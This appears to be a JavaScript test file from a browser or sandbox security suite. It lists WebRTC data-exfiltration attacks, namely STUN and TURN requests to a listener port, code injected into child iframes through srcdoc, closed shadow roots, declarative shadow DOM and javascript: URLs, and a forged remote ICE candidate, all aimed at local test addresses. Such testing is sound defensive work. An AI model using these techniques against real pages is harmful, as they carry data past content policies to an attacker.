// Exfiltration by WebRTC, which obeys no content policy: a packet to the attacker's port is enough.
const gather = (Connection, urls) => {
  const peer = new Connection({ iceServers: [{ urls, username: "stolen", credential: "x" }] });
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => soon(100));
};

attacks.stun = () => gather(RTCPeerConnection, `stun:127.0.0.1:${setup.udp}`);
attacks["turn-udp"] = () => gather(RTCPeerConnection, `turn:127.0.0.1:${setup.udp}?transport=udp`);
attacks["turn-tcp"] = () => gather(RTCPeerConnection, `turn:127.0.0.1:${setup.tcp}?transport=tcp`);
attacks["turn-tls"] = () => gather(RTCPeerConnection, `turns:${setup.host}:${setup.tcp}?transport=tcp`);
attacks["stun-by-name"] = () => gather(RTCPeerConnection, `stun:${setup.host}:${setup.udp}`);
// Taking RTCPeerConnection away in the view's own window would not help: a child frame has a fresh one.
// The child is opaque to its own parent, so it brings the code itself.
const code = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${setup.udp}" }] });` +
  `p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
const inner = `<script>${code}<\/script>`;
attacks["child-frame-stun"] = async () => {
  const child = element("iframe");
  child.srcdoc = "x";
  await Promise.race([new Promise((loaded) => (child.onload = loaded)), soon(1000)]);
  child.srcdoc = inner;
};
attacks["shadow-frame-stun"] = () => {
  const child = Object.assign(document.createElement("iframe"), { srcdoc: inner });
  element("div").attachShadow({ mode: "closed" }).append(child);
};
attacks["declared-shadow-stun"] = () => {
  const escaped = inner.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  element("div").setHTMLUnsafe(
    `<div><template shadowrootmode="closed"><iframe srcdoc="${escaped}"></iframe></template></div>`,
  );
};
attacks["javascript-frame-stun"] = () => void (element("iframe").src = "javascript:" + JSON.stringify(inner));
attacks["remote-candidate"] = async () => {
  // Two ends in one view: one is told that the other lives at the attacker's address. Here that is this machine's own,
  // which is not 127.0.0.1 for Firefox: it looks from no address there.
  const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()];
  const addresses = ["127.0.0.1"];
  near.onicecandidate = ({ candidate }) => candidate?.address?.includes(".") && addresses.push(candidate.address);
  near.createDataChannel("x");
  await near.setLocalDescription(await near.createOffer());
  await far.setRemoteDescription(near.localDescription);
  await far.setLocalDescription(await far.createAnswer());
  await near.setRemoteDescription(far.localDescription);
  await soon(300);
  for (const address of addresses) {
    const candidate = `candidate:1 1 udp 2122260223 ${address} ${setup.udp} typ host generation 0`;
    await near.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 }).catch(() => 0);
  }
  await soon(300);
};
